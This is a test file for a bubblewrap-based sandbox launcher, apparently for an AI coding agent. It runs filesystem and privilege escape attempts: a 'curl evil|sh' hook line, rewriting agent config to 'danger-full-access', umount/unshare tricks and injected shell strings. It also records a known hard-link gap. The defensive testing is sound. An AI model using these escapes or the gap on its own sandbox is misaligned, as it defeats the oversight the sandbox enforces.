// Filesystem attacks against the Linux launcher under REAL bubblewrap. Every test
// asserts the attack failed AND the host is unchanged. Each comment names the protection and how the
// test was shown to fail: the protection was removed in the source once, the test run and seen to
// fail, and the source restored.
import * as fs from "node:fs";
import * as path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { SandboxUnavailableError } from "../../server/sandbox/errors.js";
import type { SplitSandboxPolicy } from "../../server/sandbox/splitSandboxPolicy.js";
import { BWRAP, WS_ONLY, baseEnv, bash, cleanupTempDirs, hasBwrap, isRoot, run, sha, tempDir, transform, treeSnapshot, workspace } from "./helpers.js";

afterAll(cleanupTempDirs);

beforeAll(() => {
  // Not a skip: this suite IS the sandbox's proof; without bubblewrap it must fail loudly.
  if (!hasBwrap) throw new Error(`${BWRAP} is missing: install bubblewrap (apt-get install bubblewrap); CI installs it`);
});

describe("writes outside the writable roots", () => {
  // Protection: the read-only base (`--ro-bind / /`). Shown to fail: with the base emitted as
  // `--bind / /` the write succeeded and outside.txt held "pwned".
  it("a plain write outside every writable root fails with EROFS and leaves the file intact", async () => {
    const { ws, outsideFile } = workspace();
    const before = sha(outsideFile);
    const r = await run(bash(`echo pwned > ${outsideFile}; echo pwned >> ${outsideFile}; touch ${path.dirname(outsideFile)}/new`), WS_ONLY, ws);
    expect(r.stderr).toMatch(/Read-only file system/);
    expect(sha(outsideFile)).toBe(before);
    expect(fs.existsSync(`${path.dirname(outsideFile)}/new`)).toBe(false);
    expect(r.sandboxDenial).toMatchObject({ kind: "write", path: outsideFile });
    expect(r.sandboxDenial?.message).toBe(`sandbox: write to ${outsideFile} denied (outside the writable roots of workspace-write)`);
  });

  // The same with the default policy: /tmp and TMPDIR writable, /var/tmp not. Protection: as above.
  // Shown to fail: with `--bind / /` as base the file appeared in /var/tmp.
  it("default workspace-write: /var/tmp stays read-only and the denial names it", async () => {
    const { ws } = workspace();
    const target = `/var/tmp/gh-sbx-${process.pid}-${Date.now()}`;
    const r = await run(bash(`echo x > ${target}`), { type: "workspaceWrite" }, ws);
    expect(fs.existsSync(target)).toBe(false);
    expect(r.exitCode).not.toBe(0);
    expect(r.sandboxDenial?.message).toBe(`sandbox: write to ${target} denied (outside the writable roots of workspace-write)`);
  });

  // Protection: read-only base; `..` is resolved by the kernel inside the same mount tree. Shown to
  // fail: with `--bind / /` the relative write reached ../outside/outside.txt.
  it("through .. from the workspace", async () => {
    const { ws, outsideFile } = workspace();
    const before = sha(outsideFile);
    const r = await run(bash("echo pwned > ../outside/outside.txt; echo pwned > src/../../outside/outside.txt"), WS_ONLY, ws);
    expect(r.stderr.match(/Read-only file system/g)).toHaveLength(2);
    expect(sha(outsideFile)).toBe(before);
  });

  // Protection: read-only base (a symlink in the root is followed to the outside mount). Shown to
  // fail: with `--bind / /` the write through the link changed outside.txt.
  it("through a symlink placed in the workspace pointing outside", async () => {
    const { ws, outsideFile } = workspace();
    const before = sha(outsideFile);
    const r = await run(
      bash(`ln -s ${outsideFile} link && echo pwned > link; ln -s ${path.dirname(outsideFile)} dirlink && echo x > dirlink/new`),
      WS_ONLY,
      ws,
    );
    expect(r.stderr.match(/Read-only file system/g)).toHaveLength(2);
    expect(sha(outsideFile)).toBe(before);
    expect(fs.existsSync(path.join(path.dirname(outsideFile), "new"))).toBe(false);
  });

  // Protection: read-only base; /proc/self/root and /proc/1/root resolve inside the sandbox's
  // own mount namespace. Shown to fail: with `--bind / /` both writes reached the file.
  it("through /proc/self/root and /proc/1/root", async () => {
    const { ws, outsideFile } = workspace();
    const before = sha(outsideFile);
    const r = await run(bash(`echo a > /proc/self/root${outsideFile}; echo b > /proc/1/root${outsideFile}; echo c > /proc/$$/root${outsideFile}`), WS_ONLY, ws);
    expect(r.stderr.match(/Read-only file system|Permission denied/g)?.length).toBe(3);
    expect(sha(outsideFile)).toBe(before);
  });

  // Protection: each writable root and each carve-out is its own mount, and link(2) across
  // mounts is EXDEV. Shown to fail: without the `.git` ro-bind, `ln .git/config hl` succeeded and the
  // write through hl rewrote .git/config.
  it("hard links from the workspace to an outside file or into .git", async () => {
    const { ws, outsideFile } = workspace();
    const before = sha(outsideFile);
    const cfg = path.join(ws, ".git", "config");
    const cfgBefore = sha(cfg);
    const r = await run(bash(`ln ${outsideFile} hl1 && echo pwned > hl1; ln .git/config hl2 && echo pwned > hl2`), WS_ONLY, ws);
    expect(r.stderr.match(/Invalid cross-device link/g)).toHaveLength(2);
    expect(sha(outsideFile)).toBe(before);
    expect(sha(cfg)).toBe(cfgBefore);
  });

  // Hard links to protected files. A mount protects a path, not an inode: a second name made before
  // the run inside the workspace for .git/config, a hook, or the daemon's config.toml (outside the
  // workspace) would be written through the workspace bind. Protection: the planner searches the
  // writable roots for the other names of every protected file with nlink > 1 and mounts each one
  // like the file itself (bwrapPlan.ts protectHardLinks). Shown to fail: with protectHardLinks not
  // called, all three writes succeeded and changed the protected files.
  it("a hard link made before the run to a protected file cannot be written through", async () => {
    const { ws, outside } = workspace();
    const daemonConfig = path.join(outside, "config.toml");
    fs.writeFileSync(daemonConfig, 'model = "x"\n');
    fs.writeFileSync(path.join(ws, ".git", "hooks", "pre-commit"), "#!/bin/sh\n");
    fs.mkdirSync(path.join(ws, "notes"));
    fs.linkSync(path.join(ws, ".git", "config"), path.join(ws, "notes", "git-config"));
    fs.linkSync(path.join(ws, ".git", "hooks", "pre-commit"), path.join(ws, "hook"));
    fs.linkSync(daemonConfig, path.join(ws, "cfg"));
    const before = [sha(path.join(ws, ".git", "config")), sha(path.join(ws, ".git", "hooks", "pre-commit")), sha(daemonConfig)];
    const r = await run(
      bash("echo pwned > notes/git-config; echo 'curl evil|sh' >> hook; echo 'sandbox_mode = \"danger-full-access\"' > cfg; echo ok > src/new"),
      WS_ONLY,
      ws,
      {
        launch: { env: baseEnv(ws), daemonPaths: { readOnly: [daemonConfig] } },
      },
    );
    expect(r.stderr.match(/Read-only file system/g)).toHaveLength(3);
    expect([sha(path.join(ws, ".git", "config")), sha(path.join(ws, ".git", "hooks", "pre-commit")), sha(daemonConfig)]).toEqual(before);
    expect(fs.readFileSync(path.join(ws, "src", "new"), "utf8")).toBe("ok\n");
  });

  // Hard links, a known gap for files outside every protected set: finding the other names of
  // an arbitrary outside file would mean walking the writable roots on every command, so a hard link
  // that already exists BEFORE launch still lets the sandbox write that inode. The sandbox cannot make
  // such a link itself (EXDEV, the test above), so only something unsandboxed can set this up. This
  // test documents the gap; it fails the day the gap is closed, prompting the comment to be updated.
  it("known gap: a hard link made before the run to an unprotected outside file is writable", async () => {
    const { ws, outsideFile } = workspace();
    fs.linkSync(outsideFile, path.join(ws, "prelinked"));
    await run(bash("echo changed > prelinked"), WS_ONLY, ws);
    expect(fs.readFileSync(outsideFile, "utf8")).toBe("changed\n");
  });
});

describe(".git and the other protected names", () => {
  // Protection: `--ro-bind ws/.git ws/.git` after the workspace bind. Shown to fail: with the
  // protected subpaths not mounted, config was rewritten, hooks/x created and `mv .git` succeeded.
  it(".git as a directory: write config, add a hook, rm -rf and mv all fail", async () => {
    const { ws } = workspace();
    const before = treeSnapshot(path.join(ws, ".git"));
    const r = await run(bash("echo pwned > .git/config; echo 'curl evil|sh' > .git/hooks/pre-commit; rm -rf .git; mv .git moved"), WS_ONLY, ws);
    expect(r.stderr).toMatch(/\.git\/config: Read-only file system/);
    expect(r.stderr).toMatch(/pre-commit: Read-only file system/);
    expect(r.stderr).toMatch(/mv: cannot move '.git' to 'moved': Device or resource busy/);
    expect(treeSnapshot(path.join(ws, ".git"))).toBe(before);
    expect(fs.existsSync(path.join(ws, "moved"))).toBe(false);
    expect(r.sandboxDenial?.message).toBe(`sandbox: write to ${ws}/.git/config denied (protected: .git under writable root ${ws} stays read-only)`);
  });

  // Protection: the `.git` pointer file and the gitdir it names are ro-bound when a writable root
  // covers them. Shown to fail: with protected subpaths not mounted, the pointer file was
  // rewritten to gitdir: /tmp/evil and worktrees/wt/HEAD was overwritten.
  it(".git as a worktree file: the pointer and its gitdir stay read-only", async () => {
    const root = tempDir("wt");
    const repo = path.join(root, "repo");
    const wt = path.join(root, "wt");
    fs.mkdirSync(path.join(repo, ".git", "worktrees", "wt"), { recursive: true });
    fs.writeFileSync(path.join(repo, ".git", "worktrees", "wt", "HEAD"), "ref: refs/heads/wt\n");
    fs.writeFileSync(path.join(repo, ".git", "worktrees", "wt", "commondir"), "../..\n");
    fs.writeFileSync(path.join(repo, ".git", "config"), "[core]\n");
    fs.mkdirSync(wt);
    fs.writeFileSync(path.join(wt, ".git"), `gitdir: ${repo}/.git/worktrees/wt\n`);
    fs.writeFileSync(path.join(wt, "file.txt"), "x\n");
    const before = treeSnapshot(root);
    const policy = { type: "workspaceWrite" as const, writableRoots: [repo], excludeSlashTmp: true, excludeTmpdirEnvVar: true };
    const r = await run(
      bash(`echo 'gitdir: /tmp/evil' > .git; echo pwned > ${repo}/.git/worktrees/wt/HEAD; echo pwned > ${repo}/.git/config; echo ok > file.txt`),
      policy,
      wt,
    );
    expect(r.stderr.match(/Read-only file system/g)).toHaveLength(3);
    expect(treeSnapshot(root)).toBe(before.replace(`f ${wt}/file.txt 2 x\n`, `f ${wt}/file.txt 3 ok\n`));
  });

  // Protection: the launch refuses a protected path that is a symlink inside a writable root
  // (bwrap would bind the link's target, and `rm .codex && mkdir .codex` would win). Shown to
  // fail: with the crossing check removed the command ran, replaced the link and wrote
  // .codex/config.toml.
  it("a symlinked .codex (or .git) refuses the launch with the fixed error; nothing runs", async () => {
    const { ws } = workspace();
    fs.mkdirSync(path.join(ws, "decoy"));
    fs.symlinkSync("decoy", path.join(ws, ".codex"));
    const err = await run(bash("rm .codex && mkdir .codex && echo pwned > .codex/config.toml; touch ran"), WS_ONLY, ws).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(SandboxUnavailableError);
    expect(err).toMatchObject({
      code: "unenforceable-path",
      reason: `cannot enforce sandbox read-only path ${ws}/.codex: it crosses writable symlink ${ws}/.codex`,
    });
    expect((err as SandboxUnavailableError).remedy).toMatch(/replace the symlink/);
    expect(fs.existsSync(path.join(ws, "ran"))).toBe(false);
    expect(fs.lstatSync(path.join(ws, ".codex")).isSymbolicLink()).toBe(true);

    const { ws: ws2 } = workspace();
    fs.renameSync(path.join(ws2, ".git"), path.join(ws2, "real-git"));
    fs.symlinkSync("real-git", path.join(ws2, ".git"));
    await expect(run(bash("true"), WS_ONLY, ws2)).rejects.toMatchObject({ code: "unenforceable-path" });
  });

  // Protection: read-only placeholders over missing protected names, removed after exit.
  // Shown to fail: without placeholders `mkdir .codex`, `touch .agents` and `git init` all succeeded
  // and left .codex/.agents/.git on the host.
  it("missing .codex/.agents/.aws/.git cannot be created, and no placeholder is left behind", async () => {
    const root = tempDir("noprot");
    const ws = path.join(root, "ws");
    fs.mkdirSync(ws);
    const r = await run(bash("mkdir .codex; touch .agents; mkdir -p .aws/x; git init -q . 2>&1; echo done"), WS_ONLY, ws);
    expect(r.stdout).toContain("done");
    expect(r.stderr).toMatch(/mkdir: cannot create directory '.codex': File exists/);
    expect(r.stderr).toMatch(/touch: setting times of '.agents': Read-only file system/);
    expect(r.stderr).toMatch(/mkdir: cannot create directory '.aws\/x': Read-only file system/);
    expect(r.stdout).toMatch(/fatal: cannot copy .* Read-only file system/);
    expect(fs.readdirSync(ws)).toEqual([]);
  });

  // Protection: a missing .git below an existing repository gets no placeholder (it would break
  // repository discovery) but is checked after the run: removed and the run fails. Shown to fail:
  // with the post-run check removed, the .git the command made stayed in the package.
  it("a .git created inside an enclosing repository is removed after the run and reported", async () => {
    const root = tempDir("nested");
    fs.mkdirSync(path.join(root, ".git"));
    fs.writeFileSync(path.join(root, ".git", "HEAD"), "ref: refs/heads/main\n");
    const pkg = path.join(root, "pkg");
    fs.mkdirSync(pkg);
    const r = await run(bash("mkdir .git && echo x > .git/HEAD && echo created"), WS_ONLY, pkg);
    expect(r.stdout).toContain("created");
    expect(fs.existsSync(path.join(pkg, ".git"))).toBe(false);
    expect(r.exitCode).toBe(1);
    expect(r.postRunDenials).toEqual([
      {
        kind: "protected-created",
        path: `${pkg}/.git`,
        operation: "create",
        message: `sandbox: ${pkg}/.git was created by the command and has been removed (protected paths stay read-only)`,
      },
    ]);
  });
});

describe("mounts and privileges", () => {
  // Mount tampering (run as root here). Protection: `--cap-drop ALL`, and independently `--unshare-user`
  // (inherited mounts are locked in a child user namespace). Each alone stopped the attack when the
  // other was removed; with both removed (and --disable-userns, which needs --unshare-user), as root
  // `umount .git` succeeded and the test failed.
  it.runIf(isRoot)("as root: umount of a carve-out and remount of / are refused", async () => {
    const { ws, outsideFile } = workspace();
    const cfg = sha(path.join(ws, ".git", "config"));
    const before = sha(outsideFile);
    const r = await run(
      bash(
        `umount .git 2>&1; umount -l .git 2>&1; echo pwned > .git/config; mount -o remount,rw,bind / 2>&1; mount -o remount,rw / 2>&1; echo pwned > ${outsideFile}; true`,
      ),
      WS_ONLY,
      ws,
    );
    expect(sha(path.join(ws, ".git", "config"))).toBe(cfg);
    expect(sha(outsideFile)).toBe(before);
    expect(r.stdout).toMatch(/must be superuser|Operation not permitted|permission denied/i);
  });

  // Protection: `--cap-drop ALL` and bwrap's no_new_privs. Shown to fail: without --cap-drop ALL
  // CapEff was 000001ffffffffff when run as root.
  it("no capabilities and no_new_privs inside; seccomp filter installed", async () => {
    const { ws } = workspace();
    const r = await run(bash("grep -E '^(CapEff|CapPrm|NoNewPrivs|Seccomp):' /proc/self/status"), WS_ONLY, ws);
    expect(r.stdout).toMatch(/CapEff:\s+0000000000000000/);
    expect(r.stdout).toMatch(/CapPrm:\s+0000000000000000/);
    expect(r.stdout).toMatch(/NoNewPrivs:\s+1/);
    expect(r.stdout).toMatch(/Seccomp:\s+2/);
  });

  // Protection: `--disable-userns` (nested unshare → ENOSPC), on top of locked mounts and the
  // dropped capabilities. Shown to fail: without --disable-userns the nested unshare got further and
  // failed differently ("write failed /proc/self/uid_map: Operation not permitted" as root; as uid
  // 65534 it started, see unprivileged.test.ts), so the ENOSPC assertion failed; .git stayed intact.
  it("nested user namespaces are disabled and carve-outs stay mounted", async () => {
    const { ws } = workspace();
    const cfg = sha(path.join(ws, ".git", "config"));
    const r = await run(bash("unshare -Urm sh -c 'umount .git; echo pwned > .git/config' 2>&1; echo rc=$?"), WS_ONLY, ws);
    expect(r.stdout).toMatch(/unshare failed: No space left on device/);
    expect(r.stdout).not.toMatch(/rc=0/);
    expect(sha(path.join(ws, ".git", "config"))).toBe(cfg);
  });
});

describe("deny carve-outs and restricted read", () => {
  const denyPolicy = (ws: string): SplitSandboxPolicy => ({
    fileSystem: {
      kind: "restricted",
      entries: [
        { path: { type: "special", value: { kind: "root" } }, access: "read" },
        { path: { type: "special", value: { kind: "current_working_directory" } }, access: "write" },
        { path: { type: "path", path: `${ws}/secrets` }, access: "none" },
        { path: { type: "path", path: `${ws}/secrets/shared` }, access: "write" },
        { path: { type: "path", path: `${ws}/.env` }, access: "none" },
      ],
    },
    network: "restricted",
    label: "deny-test",
  });

  // Protection: `--perms 000 --tmpfs` over a denied directory and `--perms 000 --ro-bind-data`
  // over a denied file. Shown to fail: with masks not emitted, cat printed the key and .env.
  it("a denied directory and file cannot be read, listed, removed or renamed; host copies intact", async () => {
    const { ws } = workspace();
    fs.mkdirSync(path.join(ws, "secrets", "shared"), { recursive: true });
    fs.writeFileSync(path.join(ws, "secrets", "key"), "TOP-SECRET-KEY\n");
    fs.writeFileSync(path.join(ws, ".env"), "TOKEN=TOP-SECRET-ENV\n");
    const before = treeSnapshot(ws);
    const r = await run(bash("cat secrets/key; ls secrets; cat .env; rm -rf secrets; mv .env x; rm -f .env; echo end"), denyPolicy(ws), ws);
    expect(r.stdout).not.toContain("TOP-SECRET");
    expect(r.stderr).toMatch(/cat: secrets\/key: (Permission denied|No such file)/);
    expect(r.stderr).toMatch(/cat: .env: Permission denied/);
    expect(r.stderr).toMatch(/Device or resource busy|Read-only file system|Permission denied/);
    expect(treeSnapshot(ws)).toBe(before);
  });

  // Protection: re-opening with `--perms 111 --tmpfs`, `--dir` before `--remount-ro`, then the
  // nested bind. Shown to fail: emitting the mask's --remount-ro before its --dir made bwrap
  // refuse to start ("Can't mkdir … Read-only file system"), reported as a sandbox set-up failure.
  it("write → none → write: the re-opened child is writable, its denied siblings are not", async () => {
    const { ws } = workspace();
    fs.mkdirSync(path.join(ws, "secrets", "shared"), { recursive: true });
    fs.writeFileSync(path.join(ws, "secrets", "hidden.txt"), "HIDDEN\n");
    const r = await run(bash("echo ok > secrets/shared/out.txt && echo wrote; echo x > secrets/sibling; cat secrets/hidden.txt"), denyPolicy(ws), ws);
    expect(r.sandboxSetupFailed).toBe(false);
    expect(r.stdout).toContain("wrote");
    expect(fs.readFileSync(path.join(ws, "secrets", "shared", "out.txt"), "utf8")).toBe("ok\n");
    expect(fs.existsSync(path.join(ws, "secrets", "sibling"))).toBe(false);
    expect(r.stdout).not.toContain("HIDDEN");
  });

  // Protection: `--tmpfs /` base with only platform and readable roots, then `--remount-ro /`.
  // Shown to fail: without the final `--remount-ro /`, `echo > /newtop` succeeded (into the
  // tmpfs), so the EROFS assertion failed.
  it("restricted read: home, /root and other temp dirs are absent; the root is not writable", async () => {
    const { ws } = workspace();
    const other = tempDir("other");
    fs.writeFileSync(path.join(other, "private.txt"), "PRIVATE\n");
    const policy = { type: "readOnly" as const, access: { type: "restricted" as const } };
    const r = await run(bash(`cat ${other}/private.txt; ls /root; ls /home; echo x > /newtop; cat src/a.txt; ls /usr/bin/env`), policy, ws);
    expect(r.stdout).not.toContain("PRIVATE");
    expect(r.stderr).toMatch(new RegExp(`${other}/private.txt: No such file or directory`));
    expect(r.stderr).toMatch(/\/root.*No such file or directory/);
    expect(r.stderr).toMatch(/\/newtop: Read-only file system/);
    expect(r.stdout).toContain("a\n");
    expect(r.stdout).toContain("/usr/bin/env");
  });

  // Protection: every path canonicalised and `--chdir <realpath(cwd)>`. Shown to fail:
  // passing the logical cwd to --chdir, bwrap could not chdir into the unbound link path and the run
  // became a set-up failure.
  it("a symlinked cwd under restricted read runs in the real directory and writes land there", async () => {
    const root = tempDir("cwdlink");
    const real = path.join(root, "real");
    fs.mkdirSync(real);
    fs.symlinkSync(real, path.join(root, "link"));
    const policy = { type: "workspaceWrite" as const, readOnlyAccess: { type: "restricted" as const }, excludeSlashTmp: true, excludeTmpdirEnvVar: true };
    const r = await run(bash("pwd; echo hello > rel.txt"), policy, path.join(root, "link"));
    expect(r.stdout.trim()).toBe(real);
    expect(fs.readFileSync(path.join(real, "rel.txt"), "utf8")).toBe("hello\n");
  });

  // Protection: a missing writable root is skipped (never a reason to widen access). Shown to
  // fail: passing the missing path to bwrap made it abort ("Can't find source path").
  it("a missing writable root is skipped with a warning and the command still runs", async () => {
    const { ws } = workspace();
    const missing = path.join(ws, "..", "does-not-exist");
    const r = await run(bash("echo ran"), { ...WS_ONLY, writableRoots: [missing] }, ws);
    expect(r.stdout).toBe("ran\n");
    expect(r.request.warnings).toContainEqual({
      code: "missing-writable-root",
      message: `writable root ${path.resolve(missing)} does not exist; skipped (nothing can be written there)`,
    });
  });
});

describe("process view", () => {
  // Protection: `--unshare-pid` with a fresh /proc. Shown to fail: without --unshare-pid the
  // test runner's own pid was listed in /proc.
  it("/proc shows only the sandbox's own processes", async () => {
    const { ws } = workspace();
    const r = await run(bash("ls /proc | grep -E '^[0-9]+$' | tr '\\n' ' '"), WS_ONLY, ws);
    const pids = r.stdout.trim().split(/\s+/).map(Number);
    expect(pids.length).toBeLessThan(10);
    expect(pids).not.toContain(process.pid);
  });
});

describe("argv hygiene", () => {
  it("the command is passed as argv after --, never through a shell", async () => {
    const { ws } = workspace();
    const r = await run(["/usr/bin/printf", "%s|", "a b", "$(touch pwned)", "; touch pwned2"], WS_ONLY, ws);
    expect(r.stdout).toBe("a b|$(touch pwned)|; touch pwned2|");
    expect(fs.readdirSync(ws).sort()).toEqual([".git", "src"]);
    const req = await transform(["echo", "x"], WS_ONLY, ws);
    expect(req.argv.slice(-3)).toEqual(["--", "echo", "x"]);
  });
});
